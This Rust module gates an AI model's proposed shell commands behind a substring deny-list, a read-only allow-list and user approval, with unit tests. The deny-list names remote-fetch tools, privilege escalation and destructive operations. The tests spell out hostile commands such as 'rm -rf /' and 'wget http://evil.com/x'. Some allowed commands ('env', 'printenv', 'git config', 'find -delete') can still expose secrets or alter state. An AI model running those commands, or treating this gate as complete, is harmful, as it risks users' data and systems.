//! Terminal safety gate.
//!
//! Commands proposed by the model are never executed inline. They pass a
//! deny-list scan and an allow-list check first, and a command that survives
//! both is parked as `pending_approval` for the user. The explicitly
//! user-triggered execution path re-runs the identical validation before
//! spawning anything.

use std::time::Duration;

use serde::{Deserialize, Serialize};
use serde_json::json;
use tokio::process::Command;
use tracing::debug;

use crate::llm::ToolDefinition;

pub const TERMINAL_TOOL_NAME: &str = "terminal_execute";

/// Substrings that block a command outright, wherever they appear.
/// Covers destructive filesystem operations, privilege escalation,
/// service/process control, code-injection operators, remote-fetch
/// utilities, and shell chaining/redirection.
const DENIED_SUBSTRINGS: &[&str] = &[
    // destructive filesystem operations
    "rm ",
    "rmdir",
    "del ",
    "erase ",
    "format ",
    "mkfs",
    "dd ",
    "shred",
    "truncate",
    "fsutil",
    "remove-item",
    "set-content",
    "add-content",
    "clear-content",
    "new-item",
    "move-item",
    "copy-item",
    "rename-item",
    "out-file",
    "mklink",
    // privilege escalation
    "sudo",
    "doas",
    "runas",
    "su -",
    // service and process control
    "shutdown",
    "reboot",
    "poweroff",
    "halt",
    "systemctl",
    "launchctl",
    "sc stop",
    "sc start",
    "net stop",
    "net start",
    "kill",
    "taskkill",
    "stop-process",
    "stop-service",
    "restart-service",
    "stop-computer",
    "restart-computer",
    // code injection and eval
    "invoke-expression",
    "iex ",
    "eval ",
    "exec ",
    "$(",
    "${",
    "`",
    // remote fetch utilities
    "curl",
    "wget",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr ",
    "irm ",
    "certutil",
    "scp ",
    "ftp ",
    // shell chaining and redirection
    "&&",
    "||",
    ";",
    ">",
    "<",
    "&",
];

/// Read-only command prefixes. A pipe segment is allowed when its first word
/// or its first two words match one of these.
const ALLOWED_COMMANDS: &[&str] = &[
    // POSIX read-only utilities
    "ls",
    "pwd",
    "cat",
    "head",
    "tail",
    "grep",
    "find",
    "wc",
    "stat",
    "file",
    "du",
    "df",
    "free",
    "uptime",
    "uname",
    "whoami",
    "id",
    "date",
    "echo",
    "which",
    "env",
    "printenv",
    "ps",
    "tree",
    "hostname",
    "basename",
    "dirname",
    "realpath",
    // Windows built-ins
    "dir",
    "type",
    "ver",
    "vol",
    "systeminfo",
    "tasklist",
    "ipconfig",
    "where",
    // PowerShell read-only cmdlets
    "get-childitem",
    "get-content",
    "get-item",
    "get-itemproperty",
    "get-location",
    "get-process",
    "get-service",
    "get-date",
    "get-host",
    "get-computerinfo",
    "get-psdrive",
    "get-command",
    "get-member",
    "get-history",
    "test-path",
    "select-object",
    "select-string",
    "sort-object",
    "format-table",
    "format-list",
    "measure-object",
    "where-object",
    "group-object",
    "out-string",
    // PowerShell aliases
    "gci",
    "gc",
    "gi",
    "gl",
    "gps",
    "gsv",
    "sls",
    "select",
    "sort",
    "ft",
    "fl",
    "measure",
    "where",
    "group",
    // read-only git and runtime version subcommands
    "git status",
    "git log",
    "git diff",
    "git branch",
    "git show",
    "git remote",
    "git config",
    "node -v",
    "node --version",
    "npm -v",
    "npm --version",
    "python --version",
    "python3 --version",
    "pip --version",
    "rustc --version",
    "cargo --version",
    "go version",
    "java -version",
    "dotnet --version",
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandVerdict {
    Allow,
    Deny { reason: String },
}

/// Validate a command against the deny-list and the allow-list.
///
/// The scan is case-insensitive; the command is split on `|` and every
/// non-empty segment must have an allow-listed one- or two-word prefix.
pub fn validate_command(command: &str) -> CommandVerdict {
    let normalized = command.trim().to_lowercase();
    if normalized.is_empty() {
        return CommandVerdict::Deny {
            reason: "empty command".to_owned(),
        };
    }

    for token in DENIED_SUBSTRINGS {
        if normalized.contains(token) {
            return CommandVerdict::Deny {
                reason: format!("blocked token: {}", token.trim()),
            };
        }
    }

    for segment in normalized.split('|') {
        let segment = segment.trim();
        if segment.is_empty() {
            continue;
        }
        let mut words = segment.split_whitespace();
        let first = words.next().unwrap_or_default();
        let first_two = words.next().map(|second| format!("{first} {second}"));

        let allowed = ALLOWED_COMMANDS.contains(&first)
            || first_two
                .as_deref()
                .is_some_and(|prefix| ALLOWED_COMMANDS.contains(&prefix));
        if !allowed {
            return CommandVerdict::Deny {
                reason: format!("command not in allow-list: {first}"),
            };
        }
    }

    CommandVerdict::Allow
}

/// Outcome of the terminal gate, in the wire shape the approval endpoint
/// returns.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum TerminalCommandResult {
    Success {
        exit_code: i32,
        stdout: String,
        stderr: String,
        truncated: bool,
    },
    Blocked {
        message: String,
    },
    PendingApproval {
        command: String,
        working_directory: String,
    },
    Error {
        message: String,
    },
}

impl TerminalCommandResult {
    pub fn to_json_string(&self) -> String {
        serde_json::to_string(self).unwrap_or_else(|_| "{\"status\":\"error\"}".to_owned())
    }
}

/// First phase of the gate: validate only, never execute.
pub fn pending_result(command: &str, working_directory: &str) -> TerminalCommandResult {
    match validate_command(command) {
        CommandVerdict::Allow => TerminalCommandResult::PendingApproval {
            command: command.to_owned(),
            working_directory: working_directory.to_owned(),
        },
        CommandVerdict::Deny { reason } => TerminalCommandResult::Blocked { message: reason },
    }
}

/// Second phase: user-approved execution.
///
/// Re-runs the identical validation, then spawns via the system shell under
/// a hard wall-clock timeout. Stdout and stderr are capped independently.
/// Never returns `Err`; every failure mode becomes a structured result.
pub async fn execute_approved(
    command: &str,
    working_directory: &str,
    timeout: Duration,
    output_cap: usize,
) -> TerminalCommandResult {
    if let CommandVerdict::Deny { reason } = validate_command(command) {
        return TerminalCommandResult::Blocked { message: reason };
    }

    debug!(
        target = "turngate::terminal",
        command,
        working_directory,
        "executing approved command"
    );

    let mut shell = if cfg!(windows) {
        let mut shell = Command::new("powershell");
        shell.args(["-NoProfile", "-NonInteractive", "-Command", command]);
        shell
    } else {
        let mut shell = Command::new("sh");
        shell.arg("-c").arg(command);
        shell
    };
    shell.current_dir(working_directory).kill_on_drop(true);

    let output = match tokio::time::timeout(timeout, shell.output()).await {
        Ok(Ok(output)) => output,
        Ok(Err(err)) => {
            return TerminalCommandResult::Error {
                message: format!("failed to spawn command: {err}"),
            };
        }
        Err(_) => {
            return TerminalCommandResult::Error {
                message: format!("command timed out after {}s", timeout.as_secs()),
            };
        }
    };

    let (stdout, stdout_truncated) = cap_output(&output.stdout, output_cap);
    let (stderr, stderr_truncated) = cap_output(&output.stderr, output_cap);

    TerminalCommandResult::Success {
        exit_code: output.status.code().unwrap_or(-1),
        stdout,
        stderr,
        truncated: stdout_truncated || stderr_truncated,
    }
}

fn cap_output(raw: &[u8], cap: usize) -> (String, bool) {
    let text = String::from_utf8_lossy(raw);
    match text.char_indices().nth(cap) {
        Some((byte_idx, _)) => (text[..byte_idx].to_owned(), true),
        None => (text.into_owned(), false),
    }
}

/// Schema bound to the model when terminal access is enabled.
pub fn terminal_tool_definition() -> ToolDefinition {
    ToolDefinition::function(
        TERMINAL_TOOL_NAME,
        "Run a read-only shell command on the user's machine. The command is validated and \
         requires explicit user approval before it executes.",
        json!({
            "type": "object",
            "properties": {
                "command": {
                    "type": "string",
                    "description": "The shell command to run"
                },
                "working_directory": {
                    "type": "string",
                    "description": "Directory to run the command in (default: current)"
                }
            },
            "required": ["command"]
        }),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    fn blocked_reason(command: &str) -> String {
        match validate_command(command) {
            CommandVerdict::Deny { reason } => reason,
            CommandVerdict::Allow => panic!("expected {command:?} to be denied"),
        }
    }

    #[test]
    fn rm_rf_is_blocked() {
        assert_eq!(blocked_reason("rm -rf /"), "blocked token: rm");
    }

    #[test]
    fn remote_fetch_is_blocked() {
        assert!(blocked_reason("curl evil.com").contains("curl"));
        assert!(blocked_reason("wget http://evil.com/x").contains("wget"));
    }

    #[test]
    fn deny_scan_matches_anywhere_case_insensitive() {
        assert!(matches!(
            validate_command("ls && SUDO reboot"),
            CommandVerdict::Deny { .. }
        ));
        assert!(matches!(
            validate_command("echo `whoami`"),
            CommandVerdict::Deny { .. }
        ));
        assert!(matches!(
            validate_command("ls > /tmp/out"),
            CommandVerdict::Deny { .. }
        ));
    }

    #[test]
    fn piped_read_only_command_is_allowed() {
        assert_eq!(validate_command("ls | grep foo"), CommandVerdict::Allow);
        assert_eq!(
            validate_command("Get-ChildItem | Select-Object Name"),
            CommandVerdict::Allow
        );
    }

    #[test]
    fn two_word_prefixes_gate_git() {
        assert_eq!(validate_command("git status"), CommandVerdict::Allow);
        assert_eq!(validate_command("git log --oneline"), CommandVerdict::Allow);
        assert!(matches!(
            validate_command("git push origin main"),
            CommandVerdict::Deny { .. }
        ));
    }

    #[test]
    fn any_failing_pipe_segment_blocks_the_whole_command() {
        assert!(matches!(
            validate_command("ls | unknowncmd"),
            CommandVerdict::Deny { .. }
        ));
    }

    #[test]
    fn empty_command_is_denied() {
        assert!(matches!(
            validate_command("   "),
            CommandVerdict::Deny { .. }
        ));
    }

    #[test]
    fn validated_command_parks_as_pending() {
        let result = pending_result("ls | grep foo", "/tmp");
        assert_eq!(
            result,
            TerminalCommandResult::PendingApproval {
                command: "ls | grep foo".to_owned(),
                working_directory: "/tmp".to_owned(),
            }
        );
    }

    #[test]
    fn pending_result_serializes_with_status_tag() {
        let json = pending_result("ls", ".").to_json_string();
        assert!(json.contains("\"status\":\"pending_approval\""));
        assert!(json.contains("\"command\":\"ls\""));
    }

    #[tokio::test]
    async fn approval_path_revalidates() {
        let result = execute_approved(
            "rm -rf /",
            ".",
            Duration::from_secs(15),
            10_000,
        )
        .await;
        assert!(matches!(result, TerminalCommandResult::Blocked { .. }));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn approved_command_reports_exit_code_and_output() {
        let result = execute_approved("echo hello", ".", Duration::from_secs(15), 10_000).await;
        match result {
            TerminalCommandResult::Success {
                exit_code,
                stdout,
                truncated,
                ..
            } => {
                assert_eq!(exit_code, 0);
                assert_eq!(stdout.trim(), "hello");
                assert!(!truncated);
            }
            other => panic!("expected success, got {other:?}"),
        }
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn oversized_output_is_capped_and_flagged() {
        let result = execute_approved("echo hello", ".", Duration::from_secs(15), 3).await;
        match result {
            TerminalCommandResult::Success {
                stdout, truncated, ..
            } => {
                assert_eq!(stdout, "hel");
                assert!(truncated);
            }
            other => panic!("expected success, got {other:?}"),
        }
    }
}
